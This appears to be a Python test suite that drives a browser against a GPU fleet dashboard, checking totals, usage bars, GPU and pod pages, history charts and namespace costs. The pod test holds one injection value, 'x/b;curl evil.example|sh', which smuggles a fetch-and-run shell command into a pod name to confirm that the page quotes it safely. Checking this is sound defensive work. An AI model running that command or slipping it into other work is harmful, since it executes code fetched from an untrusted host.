"""Every view shows the model's figures."""

from browser import gpu_address, gpus, page, pod_address, tenants

# Figures as the page writes them, by the page's own functions; `formats` holds those against the command line's.
FORMAT = "import('/assets/format.js')"


def written(one, name, *values):
    return one.evaluate(f"async (values) => (await {FORMAT}).{name}(...values)", list(values))


def percent(part):
    """As the page rounds: halves up."""
    return f"{int(part * 100 + 0.5)}%"


def fleet():
    with page("--nodes", 6, "--gpus", 4) as (one, server):
        model = server("fleet")
        all_gpus = gpus(model)
        away = [entry for entry in model["nodes"] if not entry["answers"]]
        totals = one.text(".totals")
        used = sum(gpu["memory_used_bytes"] for _, gpu in all_gpus)
        sold = sum(gpu["memory_limits_bytes"] for _, gpu in all_gpus)
        assert written(one, "bytes", used) + " / " + written(one, "bytes", sold) in totals, totals
        sick = sum(gpu["state"] != "healthy" for _, gpu in all_gpus)
        cordoned = sum(gpu["cordon"] != "" for _, gpu in all_gpus)
        assert sick > 0 and cordoned > 0 and len(away) == 1, "the made-up fleet has trouble"
        assert f"{len(all_gpus)} ({sick} not healthy, {cordoned} cordoned)" in totals, totals
        assert "6 (1 does not answer)" in totals, totals
        # Nodes with trouble stand first.
        first = one.page.locator("#rows .node strong").first.inner_text()
        assert first == next(
            entry["node"] for entry in model["nodes"]
            if not entry["answers"] or any(gpu["state"] != "healthy" or gpu["cordon"] for gpu in entry["view"]["gpus"])
        ), first
        one.page.click(f"text={sick} not healthy")
        one.until_text(f"{sick} GPUs of {len(all_gpus)}", ".count")
        one.go("#/")
        one.until("() => document.querySelector('.count').innerText === ''")
        for entry, gpu in all_gpus:
            row = one.page.locator(f'a[data-gpu="{gpu["uuid"]}"]')
            one.page.locator("#rows").evaluate("(rows, top) => scrollTo(0, top)", 0)
            if row.count() == 0:
                one.page.fill("#filter", f"gpu:{gpu['uuid']}")
                row.wait_for()
            text = row.locator("xpath=ancestor::*[@role='row']").inner_text()
            for figure in (gpu["memory_used_bytes"], gpu["memory_limits_bytes"], gpu["memory_total_bytes"]):
                assert written(one, "bytes", figure) in text, (text, gpu)
            assert written(one, "cores", gpu["cores_millis"]) in text, text
            assert ("no answer" if not entry["answers"] else gpu["state"]) in text, text
            assert ("cordoned" in text) == (gpu["cordon"] != ""), text
            assert written(one, "fits", gpu) in text, (text, gpu["fits"])
            one.page.fill("#filter", "")


def bars():
    """A bar's parts are as wide as what they stand for, and never wider together than the GPU."""
    with page("--nodes", 2, "--gpus", 2, "--tenants", 6) as (one, server):
        for entry, gpu in gpus(server("fleet")):
            row = one.page.locator(f'[role=row]:has(a[data-gpu="{gpu["uuid"]}"])')
            widths = row.locator(".bar .quota").evaluate_all("(all) => all.map((r) => Number(r.getAttribute('width')))")
            mine = [
                use["memory_limit_bytes"]
                for tenant in entry["view"]["tenants"] for use in tenant["gpus"] if use["gpu_uuid"] == gpu["uuid"]
            ]
            assert len(widths) == len(mine), (widths, mine)
            for width, limit in zip(widths, mine):
                assert abs(width - 1000 * limit / gpu["memory_total_bytes"]) < 0.1, (width, limit)
            ends = row.locator(".bar rect").evaluate_all(
                "(all) => all.map((r) => Number(r.getAttribute('x')) + Number(r.getAttribute('width')))"
            )
            assert max(ends) <= 1000.1, ends


def gpu():
    with page("--nodes", 3, "--gpus", 2) as (one, server):
        model = server("fleet")
        entry, sick = next((e, g) for e, g in gpus(model) if g["state"] == "unhealthy")
        one.go(gpu_address(entry["node"], sick))
        one.until_text(sick["state_waits_for"])
        text = one.text()
        for part in (sick["uuid"], sick["pci_bus_id"], sick["state_reason"], "unhealthy since"):
            assert part in text, (part, text)
        mine = [tenant for tenant in entry["view"]["tenants"] if tenant["gpus"][0]["gpu_uuid"] == sick["uuid"]]
        for tenant in mine:
            line = one.page.locator("tr", has_text=tenant["pod"]).first.inner_text()
            use = tenant["gpus"][0]
            used = use["memory_charged_bytes"] + use["memory_overhead_bytes"]
            assert written(one, "bytes", used) + " / " + written(one, "bytes", use["memory_limit_bytes"]) in line, line
            assert written(one, "bytes", use["memory_peak_bytes"]) in line, line
            assert written(one, "cores", use["cores_millis"]) in line, line
            assert written(one, "cores", tenant["compute"]["got_10s_millis"]) in line, line
            ran = tenant["compute"]["used_10s_millis"]
            assert ("unknown" if ran is None else written(one, "cores", ran)) in line, line
        one.page.click("text=Record 10 seconds")
        one.until_text(f"{mine[0]['pod']}: 1,000 leases of 1,000.0 ms, waited 1,000.0 ms")
        assert one.page.locator(".lane").count() == len(mine) + 1, "and the GPU's own"
        drawn = one.page.locator(".lane .lease").first.get_attribute("d").count("M")
        assert 100 <= drawn <= 102, drawn
        one.page.click("text=100 ms")
        one.until("() => document.querySelector('.lane .lease').getAttribute('d').split('M').length < 14")
        with one.page.expect_download() as saved:
            one.page.click("text=Save it for Perfetto")
        assert saved.value.suggested_filename.startswith("trace-"), saved.value.suggested_filename
        cordoned_entry, cordoned = next((e, g) for e, g in gpus(model) if g["cordon"])
        one.go(gpu_address(cordoned_entry["node"], cordoned))
        one.until_text(cordoned["cordon"])
        one.go("#/gpu/nowhere/GPU-none")
        one.until_text("has no GPU GPU-none")


def history():
    """Charts have the history's buckets and events, and the cursor's words are its figures."""
    with page("--nodes", 2, "--gpus", 1, "--no-trouble") as (one, server):
        entry, card = gpus(server("fleet"))[0]
        one.go(gpu_address(entry["node"], card))
        one.page.wait_for_selector(".chart .band", state="attached")
        assert one.page.locator("figure").count() == 5
        since = server("fleet")["at_unix_ms"] - 3_600_000
        answer = server("history", entry["node"], card["uuid"], since, 10)
        for tenant in answer["tenants"]:
            assert tenant["pod"] in one.text(".history .legend"), tenant["pod"]
        for event in answer["events"]:
            assert event["text"] in one.text(), event
        # Where the cursor is, the words are those of that bucket.
        slider = one.page.locator(".readout input")
        slider.focus()
        slider.press("ArrowLeft")
        slider.press("ArrowLeft")
        at = int(slider.input_value()) // 10_000 * 10_000
        held = {
            tenant["pod"]: point["got_seconds"] / point["seconds"]
            for tenant in answer["tenants"] for point in tenant["points"] if point["at_unix_ms"] == at
        }
        most = max(held, key=held.get)
        one.until_text(f"{most} {percent(held[most])}", ".readout output")
        one.page.click("text=24h")
        one.until("() => location.hash.includes('since=24h')")
        one.page.wait_for_selector(".chart .band", state="attached")


def timeline():
    """Which tenants held the GPU while a pod waited, weighed by its waiting."""
    with page("--nodes", 4, "--gpus", 2, "--tenants", 8, "--no-trouble") as (one, server):
        model = server("fleet")
        since = model["at_unix_ms"] - 3_600_000
        # The pod that waited most.
        most, chosen = 0, None
        for entry, card in gpus(model):
            answer = server("history", entry["node"], card["uuid"], since, 10)
            for tenant in answer["tenants"]:
                waited = sum(point["waited_seconds"] for point in tenant["points"])
                if tenant["live"] and waited > most:
                    most, chosen = waited, (tenant, answer)
        mine, answer = chosen
        waits = {point["at_unix_ms"]: point["waited_seconds"] for point in mine["points"]}
        parts = {}
        for tenant in answer["tenants"]:
            if tenant["id"] != mine["id"]:
                got = sum(waits.get(p["at_unix_ms"], 0) * p["got_seconds"] / p["seconds"] for p in tenant["points"])
                parts[tenant["pod"]] = got / most
        holder = max(parts, key=parts.get)
        one.go(pod_address(mine))
        one.until_text("Meanwhile others held it")
        text = one.text(".blame")
        assert f"{holder} {percent(parts[holder])}" in text, (text, parts)


def pod():
    with page("--nodes", 3, "--gpus", 2) as (one, server):
        node, tenant = next((n, t) for n, t in tenants(server("fleet")) if t["refusals"] > 0 and n != "gpu-004")
        use = tenant["gpus"][0]
        one.go(pod_address(tenant))
        one.until_text("Times are in UTC.")
        one.until_text("To change it:")
        one.page.wait_for_selector(".chart .band", state="attached")
        text = one.text()
        for part in (
            f"{tenant['namespace']}/{tenant['pod']}",
            written(one, "bytes", use["memory_limit_bytes"]),
            written(one, "bytes", use["memory_peak_bytes"]),
            written(one, "cores", use["cores_millis"]),
            f"{written(one, 'number', tenant['refusals'])} over the quota",
            f"kubectl tessera explain {tenant['namespace']}/{tenant['pod']}",
            "kubectl tessera quota set ",
            "The highest use in 24h was",
        ):
            assert part in text, (part, text)
        one.go("#/pod/nowhere/none")
        one.until_text("No pod of this name uses a GPU now")
        one.until_text("no pod is called nowhere/none")
        # An address is a name and no command.
        one.go("#/pod/x/b%3Bcurl%20evil.example%7Csh")
        one.until_text("kubectl tessera explain 'x/b;curl evil.example|sh'")
        one.expected = ("404",)


def namespaces():
    with page("--nodes", 3, "--gpus", 2) as (one, server):
        model = server("fleet")
        waste = server("waste")
        one.go("#/namespaces")
        one.until_text("GPU hour costs 2.50 EUR")
        text = one.text()
        for name in {tenant["namespace"] for _, tenant in tenants(model)}:
            uses = [use for _, t in tenants(model) if t["namespace"] == name for use in t["gpus"]]
            used = sum(use["memory_charged_bytes"] + use["memory_overhead_bytes"] for use in uses)
            limit = sum(use["memory_limit_bytes"] for use in uses)
            line = f"{written(one, 'bytes', used)} / {written(one, 'bytes', limit)}"
            cores = written(one, "gpus", sum(use["cores_millis"] for use in uses))
            row = one.page.locator("tr", has=one.page.get_by_role("link", name=name, exact=True)).first
            assert line in row.inner_text() and cores in row.inner_text(), (name, line, cores)
        for space in waste["namespaces"]:
            assert f"{space['asked_gpu_hours']:.1f}" in text and f"{space['cost']:.2f} EUR" in text, (space, text)
